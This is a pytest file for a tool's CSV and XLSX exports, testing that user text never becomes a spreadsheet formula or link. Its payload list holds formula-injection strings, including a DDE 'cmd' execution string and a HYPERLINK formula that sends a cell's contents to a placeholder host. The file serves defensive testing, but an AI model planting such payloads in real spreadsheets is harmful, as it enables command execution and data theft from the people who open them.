"""The user's own sheet with columns added: order and cells kept, formulas impossible, long cells cut visibly."""

import csv
import io

import drawn as d
import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from perfconsult.errors import PerfconsultError
from perfconsult.lint.outputs import OUTPUTS, xlsx
from perfconsult.lint.outputs.cells import OURS, harmless, number_in, shown

SIGNS = "=+-@\t\r＝＋－＠"
ANY = st.text(st.characters(exclude_categories=["Cs"]) | st.sampled_from(SIGNS + " \"';\n<>&_x0"))
PAYLOADS = [
    '=HYPERLINK("http://e/?"&A2,"x")', "=cmd|' /C calc'!A0", "@SUM(1)", "-2+3+cmd|' /C calc'!A0", "\t=1+1",
    "+1+1", ' =1+1', '"=1+1', "'=1+1", "\r=1+1", "\n=1+1", "\u200b=1+1", "\ufeff@x", "\u00a0-1", "＝1+1", "\x00=1+1",
]  # fmt: skip


def table(kind: str, rows=d.ROWS, run=d.RUN) -> list[list[str]]:
    """The rows of a CSV, the heading first."""
    return list(
        csv.reader(
            io.StringIO(d.drawn(kind, rows, None, run).removeprefix("\ufeff"), newline=""), strict=True
        )
    )


def book(rows=d.ROWS, overview=None, run=d.RUN) -> openpyxl.Workbook:
    """The workbook, opened again."""
    return openpyxl.load_workbook(io.BytesIO(d.raw("xlsx", rows, overview, run)))


def values(page) -> list[list]:
    """What stands in a sheet."""
    return [[cell.value for cell in row] for row in page.iter_rows()]


@pytest.mark.parametrize("kind", ["csv", "csv-raw"])
def test_columns_are_added_at_the_right(kind: str) -> None:
    """The user's own in their order; a row that could not be read keeps its place."""
    assert table(kind) == [
        ["Key", "Text", "Team", *OURS],
        ["R2", "Webinar", "Sales", "clarify", "AU01 PB01", "it is so; it is so", d.RULES[0].ask],
        ["R3", "Please book a room.", "Sales", "other", "", "", ""],
        ["R4", "Train the desk, they make errors.", "Sales", "redirect", "EV01", "it is so", "How do you know?"],
        ["", "", "", "", "IO01", "b.csv:99: there is no text in this row", ""],
    ]  # fmt: skip


def test_a_backlog_without_columns_has_id_and_text() -> None:
    """Plain text, for instance."""
    row = d.judged(d.replace(d.WEBINAR, fields={}), "PB01")
    run = d.Run(d.RULES, columns=())

    assert [line[:3] for line in table("csv", [row], run)] == [
        ["id", "text", OURS[0]],
        ["R2", "Webinar", "clarify"],
    ]


def test_excel_knows_the_encoding() -> None:
    """By the mark in front; programs get none."""
    assert d.raw("csv").startswith(b"\xef\xbb\xbfKey,")
    assert d.raw("csv-raw").startswith(b"Key,")


@pytest.mark.parametrize("payload", PAYLOADS, ids=repr)
@pytest.mark.parametrize("place", ["own", "id", "heading", "file"])
def test_no_cell_of_a_csv_is_a_formula(payload: str, place: str) -> None:
    """Wherever it comes from; csv-raw keeps it as it was."""
    row = d.request(2, "Webinar", payload if place == "id" else "")
    fields = {**row.fields, "Text": payload} if place == "own" else {**row.fields}
    run = d.RUN
    if place == "heading":
        fields, run = {payload: "x"}, d.Run(d.RULES, columns=(payload,))
    row = d.replace(row, fields=fields)
    rows = [d.judged(row, "PB01"), d.refused(3, payload) if place == "file" else d.ROWS[1]]

    assert [cell for line in table("csv", rows, run) for cell in line if is_formula(cell)] == []
    raw = [cell for line in table("csv-raw", rows, run) for cell in line]
    # A mark of encoding in front of a heading is one of the file.
    assert payload in raw or place == "file" or (place == "heading" and payload.lstrip("\ufeff") in raw)


def is_formula(cell: str) -> bool:
    """Whether some spreadsheet takes a cell for a formula, by OWASP's list and with what some skip before it."""
    bare = cell.lstrip(' "\u00a0\u200b\u200c\u200d\u2060\ufeff\u00ad\x00\n')
    return bare[:1] in tuple(SIGNS) or cell[:1] in ("\t", "\r")


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("A normal request - with a dash; and more.", "A normal request - with a dash; and more."),
        ("-5 % since May", "'-5 % since May"),
        ("a;=cmd|' /C calc'!A0", "a;'=cmd|' /C calc'!A0"),
        ("two lines\n=SUM(A1)", "two lines\n'=SUM(A1)"),
        ("list:\n- one\n- two", "list:\n- one\n- two"),
        ("50\u00a0% 👩\u200d🔧 می\u200cخواهم", "50\u00a0% 👩\u200d🔧 می\u200cخواهم"),
        ("turn\u202eed", "turn<U+202E>ed"),
        ("", ""),
    ],
)
def test_only_what_does_harm_is_changed(text: str, cell: str) -> None:
    """Also where a sheet opened with another separator would begin a new cell."""
    assert harmless(text) == cell


@given(
    st.lists(
        st.text(st.characters(exclude_categories=["Cs"]) | st.sampled_from(SIGNS + " \"';\n")),
        min_size=3,
        max_size=3,
    )
)
def test_hostile_rows_stay_rows(cells: list[str]) -> None:
    """Any text at all: as many rows and cells as before, none a formula; raw cells come back as they were."""
    row = d.Request(
        "R2", cells[1], d.Location("b.csv", 2), dict(zip(("Key", "Text", "Team"), cells, strict=True))
    )
    rows = [d.judged(row, "PB01"), d.ROWS[1]]

    safe, raw = table("csv", rows), table("csv-raw", rows)

    assert [len(line) for line in safe] == [len(line) for line in raw] == [7, 7, 7]
    assert not any(is_formula(cell) for cell in safe[1])
    assert raw[1][:3] == cells


def test_the_workbook_is_the_users_sheet_with_columns_added() -> None:
    """The findings across the backlog are in their rows; other sheets say the rest."""
    opened = book(overview=d.OVERVIEW)
    backlog = values(opened["The requests"])

    assert opened.sheetnames == [
        "The requests", "The backlog as a whole", "Rows that could not be read", "What the rules look for",
    ]  # fmt: skip
    assert backlog == [
        ["Key", "Text", "Team", *OURS, *xlsx.PRIORITY],
        ["R2", "Webinar", "Sales", "clarify", "AU01 PB01", "it is so; it is so", d.RULES[0].ask, None, None],
        ["R3", "Please book a room.", "Sales", "other", None, None, None, None, None],
        ["R4", "Train the desk, they make errors.", "Sales", "redirect", "EV01 BL01", "it is so; it says what R2 says",
         "How do you know?", 71, "it names a person; it costs money"],
    ]  # fmt: skip
    assert values(opened["Rows that could not be read"]) == [
        ["line", "reason"],
        [99, "there is no text in this row"],
    ]
    assert ["Requests that say the same", "R2, R4: the same, word for word"] in values(
        opened["The backlog as a whole"]
    )
    assert opened["The requests"].freeze_panes == "A2"


def test_rows_with_other_columns_lose_nothing() -> None:
    """A column that comes later is added behind those before it."""
    more = d.replace(d.ROOM, fields={"Text": "Please book a room.", "Cost": "12"})

    assert values(book([d.ROWS[0], d.judged(more)])["The requests"])[2][:4] == [
        None,
        "Please book a room.",
        None,
        12,
    ]


@pytest.mark.parametrize("payload", PAYLOADS, ids=repr)
def test_no_cell_of_a_workbook_is_a_formula(payload: str) -> None:
    """Nor a link: text is text, wherever it stands."""
    row = d.request(2, payload, payload)
    row = d.replace(row, fields={**row.fields, payload: payload}, at=d.Location(payload, 2))
    overview = d.Overview(
        clusters=(d.Cluster((payload, "R4"), exact=True),), priorities=(d.Priority(payload, 1, (payload,)),)
    )
    opened = book([d.Judged(row, (d.found("PB01", row, payload),)), d.refused(3, payload)], overview)

    kinds = {cell.data_type for page in opened for line in page.iter_rows() for cell in line}
    links = [cell for page in opened for line in page.iter_rows() for cell in line if cell.hyperlink]
    assert kinds <= {"s", "n", "inlineStr"}
    assert links == []
    assert opened["The requests"]["B2"].value.endswith(payload.strip()[-2:])


@given(ANY)
def test_a_hostile_text_comes_back_from_a_workbook(text: str) -> None:
    """Letter by letter, but for what is spelled out and what XML makes of line breaks; never as a formula."""
    cell = book([d.of_text(text)])["The requests"]["B2"]

    assert cell.data_type != "f"
    came = "" if cell.value is None else str(cell.value)
    assert came.replace("\r", "") == shown(text).replace("\r", "")


@pytest.mark.parametrize("letter", ["a", "ü", "😀"])
def test_a_long_cell_is_cut_where_one_can_see_it(letter: str) -> None:
    """A cell holds 32,767 characters as Excel counts them; nothing is cut in silence."""
    value = book([d.of_text(letter * 40_000)])["The requests"]["B2"].value

    assert value.endswith("[…] (cut here: a cell holds no more)")
    assert 32_700 <= len(value.encode("utf-16-le")) // 2 <= 32_767


def test_a_sheet_that_is_too_long_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    """With what to do instead."""
    monkeypatch.setattr(xlsx, "MOST_ROWS", 3)

    with pytest.raises(PerfconsultError, match="a sheet holds 3 rows, and this backlog has 4") as refused:
        d.raw("xlsx")
    assert refused.value.problems[0].hint == "take --to csv"


@pytest.mark.parametrize(
    ("text", "value"),
    [
        ("12", 12), ("-3", -3), ("4.5", 4.5), ("0", 0), ("007", "007"), ("1.10", "1.10"), ("-0", "-0"), ("1e5", "1e5"),
        ("12345678901", "12345678901"), ("٣", "٣"), ("1,5", "1,5"), ("", ""), ("+1", "+1"), ("12 %", "12 %"),
        ("3\n", "3\n"),
    ],
)  # fmt: skip
def test_numbers_are_numbers_where_they_look_the_same(text: str, value: str | float) -> None:
    """So sums and sorting work, and no leading zero or reference is lost."""
    assert number_in(text) == value
    assert type(number_in(text)) is type(value)


def test_every_sheet_output_says_its_ending() -> None:
    """The names under which they can be had."""
    assert [OUTPUTS[kind].suffix for kind in ("csv", "csv-raw", "xlsx")] == [".csv", ".raw.csv", ".xlsx"]
